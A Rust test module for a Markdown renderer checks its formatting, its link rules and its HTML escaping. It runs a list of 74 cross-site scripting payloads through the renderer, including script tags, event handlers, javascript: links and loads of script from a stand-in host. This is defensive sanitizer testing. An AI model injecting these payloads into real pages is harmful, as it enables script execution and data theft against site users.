//! What Markdown becomes, and that no payload survives it.

use super::*;

fn check(text: &str, expected: &str) {
    assert_eq!(render(text).trim_end(), expected, "{text:?}");
}

#[test]
fn markdown_looks_as_written() {
    check(
        "a *b* **c** ~~d~~",
        "<p>a <em>b</em> <strong>c</strong> <del>d</del></p>",
    );
    check("# One\n\n#### Four", "<h3>One</h3>\n<h6>Four</h6>");
    check("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>");
    check("3. c", "<ol start=\"3\">\n<li>c</li>\n</ol>");
    check(
        "```rust\nlet x: Vec<u8>;\n```",
        "<pre><code class=\"language-rust\">let x: Vec&lt;u8&gt;;\n</code></pre>",
    );
    check("```a\"onclick=x\nb\n```", "<pre><code>b\n</code></pre>");
    check(
        "| a | b |\n|:-|-:|\n| 1 | 2 |",
        "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>\n\
         <tr><td>1</td><td>2</td></tr>\n</tbody></table>",
    );
    let tasks = render("- [ ] a\n- [x] b");
    assert_eq!(tasks.matches("type=\"checkbox\"").count(), 2, "{tasks}");
    assert_eq!(tasks.matches("disabled").count(), 2, "{tasks}");
    assert_eq!(tasks.matches("checked").count(), 1, "{tasks}");
}

#[test]
fn links_lead_out_and_pictures_are_links() {
    let expected = |inside: &str| {
        format!(
            "<p><a href=\"https://a.example/x\" target=\"_blank\" \
             rel=\"noopener noreferrer nofollow\">{inside}</a></p>"
        )
    };
    check("[a](https://a.example/x)", &expected("a"));
    check("![a picture](https://a.example/x)", &expected("a picture"));
    for nowhere in [
        "[a](/sign-in)",
        "[a](//evil.example)",
        "[a](#b)",
        "[a](data:text/html,x)",
    ] {
        let seen = render(nowhere);
        assert!(!seen.contains("href"), "{nowhere}: {seen}");
    }
}

#[test]
fn html_is_text() {
    check("vector<int> v", "<p>vector&lt;int&gt; v</p>");
    check("<b>x</b>", "<p>&lt;b&gt;x&lt;/b&gt;</p>");
    check("<div>\nx\n</div>", "<p>&lt;div&gt;\nx\n&lt;/div&gt;</p>");
}

const PAYLOADS: [&str; 74] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/xss>alert(1)</script>",
    "\u{0}<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<img src=`x` onerror=alert(1)>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img srcset=\"https://evil.example/x 2x\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=x></applet>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "</p><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](https://a.example \"\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](https://a.example/\"onmouseover=alert(1))",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://evil.example/x.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<javascript:alert(1)>",
    "```html\" onclick=\"alert(1)\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
];

/// Every tag of rendered HTML with its attributes, as a browser would see them: text holds no `<`.
fn tags(html: &str) -> impl Iterator<Item = &str> {
    html.split('<')
        .skip(1)
        .map(|tag| tag.split_once('>').expect("an end").0)
}

/// Takes an opening tag apart into its name and attributes.
fn attributes(tag: &str) -> (&str, Vec<(&str, &str)>) {
    let (name, mut rest) = tag.split_once(' ').unwrap_or((tag, ""));
    let mut attributes = Vec::new();
    while let Some((attribute, value)) = rest.split_once("=\"") {
        let (value, after) = value.split_once('"').expect("a closing quote");
        attributes.push((attribute.trim(), value));
        rest = after;
    }
    assert_eq!(rest.trim(), "", "{tag}");
    (name, attributes)
}

fn assert_harmless(text: &str) {
    let html = render(text);
    for tag in tags(&html) {
        let (name, attributes) = attributes(tag.trim_start_matches('/'));
        assert!(TAGS.contains(&name), "{text:?} became {html}");
        for (attribute, value) in attributes {
            let fine = match (name, attribute) {
                ("a", "href") => ["https://", "http://", "mailto:"]
                    .iter()
                    .any(|scheme| value.starts_with(scheme)),
                ("a", "title") | ("ol", "start") => true,
                ("a", "rel") => value == "noopener noreferrer nofollow",
                ("a", "target") => value == "_blank",
                ("code", "class") => is_language(value),
                ("input", "type") => value == "checkbox",
                ("input", "disabled" | "checked") => value.is_empty(),
                _ => false,
            };
            assert!(fine, "{text:?} became {html}");
        }
    }
}

#[test]
fn no_payload_survives() {
    let around = [
        "{}",
        "> {}",
        "- {}",
        "*{}*",
        "# {}",
        "a {} b",
        "`{}`",
        "[{}](https://a.example)",
        "[a]: {}\n\n[a]",
        "    {}",
        "x\n\n{}\n\ny",
        "[a](https://a.example '{}')",
        "![{}](x)",
    ];
    for payload in PAYLOADS {
        for shell in around {
            assert_harmless(&shell.replace("{}", payload));
        }
    }
}

#[test]
fn the_largest_and_deepest_texts_are_rendered() {
    let shapes = [
        ">", "> ", "- ", "* a\n", "[", "![", "*", "**a ", "~~a", "`", "<", "<a ", "&#", "|", "\\",
        "1. ", "_a ", "[a](", "<!--", "|-|\n", "- [ ] ", "[a]: b\n", "#", "a\n=\n",
    ];
    for shape in shapes {
        let text = shape.repeat(16_000 / shape.len());
        assert_harmless(&text);
    }
    let mut nested = String::new();
    for depth in 0..150 {
        nested.push_str(&"  ".repeat(depth));
        nested.push_str("- a\n");
    }
    assert_harmless(&nested);
    assert_eq!(render(&nested).matches("<li>").count(), DEEPEST / 2);
}
